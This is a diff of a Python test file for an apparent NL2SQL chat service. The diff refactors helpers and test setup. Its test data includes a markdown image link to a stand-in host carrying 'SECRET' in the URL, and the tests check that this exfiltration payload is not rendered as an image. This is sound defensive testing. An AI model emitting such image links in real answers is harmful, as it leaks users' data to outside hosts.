@@ -9,21 +9,25 @@ import json
 import re
 from collections.abc import Sequence
 from datetime import UTC, datetime
-from typing import Any
 
 import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
+from starlette.types import ASGIApp
 
+from execution.guard.guard import SqlGuard
 from nl2sql.answers import Answer, Answered, Clarify, Failed, Refused, Trace
 from nl2sql.types import Interpretation, ResultSet, VerifiedQuery
+from retrieval.schema_directory import SchemaDirectory
 from serve_app.http.openai.content import render_answer
 from serve_app.http.openai.conversation import answer_task, find_queries
 from serve_app.mcp.clarification import require_choice
 from serve_app.mcp.documents import build_answer, write_json
 from serve_app.mcp.tools import render_error
 from tests.fakes import (
+    SHOP,
+    FakeCatalogs,
     FakeGenerator,
     build_candidate,
     build_generated,
@@ -33,7 +37,7 @@ from tests.fakes import (
 )
 from tests.serve_app.interfaces import read_stream
 from tests.serve_app.mcp.clients import connect_http, read_text
-from tests.serve_app.served import build_app, build_services, connect
+from tests.serve_app.served import build_app, connect
 
 IMAGE = "![pic](https://example.invalid/?d=SECRET)"
 _PIECES = (
@@ -71,7 +75,10 @@ READER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethroug
 @st.composite
 def draw_answers(draw: st.DrawFn) -> tuple[Answer, list[str]]:
     """An answer with such texts in all places, and the queries that it shows."""
-    text = lambda: draw(TEXTS)  # noqa: E731
+
+    def text() -> str:
+        return draw(TEXTS)
+
     trace = Trace(build_question(text=text() or "?"), asked=text(), notes=(text(), text()))
     sql = f"SELECT {text()} x"
     match draw(st.sampled_from(["answered", "clarify", "refused", "failed"])):
@@ -177,19 +184,18 @@ FIRST = f"SELECT name FROM customers WHERE name = '{IMAGE}'"
 SECOND = f"SELECT name AS \"{IMAGE}\" FROM customers WHERE name <> '``` {IMAGE}'"
 
 
-def build(min_confidence: float) -> Any:
+def build(min_confidence: float) -> ASGIApp:
     both = build_generated(build_candidate(FIRST), build_candidate(SECOND, id="c2"), samples=2)
     sure = build_settings(ranking={"min_confidence": min_confidence})
     generator = FakeGenerator(*[both] * 9)
     rows = {FIRST: [build_result((IMAGE,))] * 40, SECOND: [build_result((1,), (2,))] * 40}
-    return build_services(sure, generator=generator, results=rows), build_app(
-        sure, generator=generator, results=rows, schemas=build_services(sure).tools._schemas
-    )
+    schemas = SchemaDirectory(SqlGuard(FakeCatalogs(SHOP)))
+    return build_app(sure, generator=generator, results=rows, schemas=schemas)
 
 
 @pytest.mark.parametrize("min_confidence", [0.0, 0.9], ids=["answered", "clarify"])
 async def test_a_literal_is_no_image(min_confidence: float) -> None:
-    _, app = build(min_confidence)
+    app = build(min_confidence)
     body = {"model": "shop", "messages": [{"role": "user", "content": f"Who is {IMAGE}?"}]}
     async with connect(app) as client:
         whole = await client.post("/v1/chat/completions", json=body)
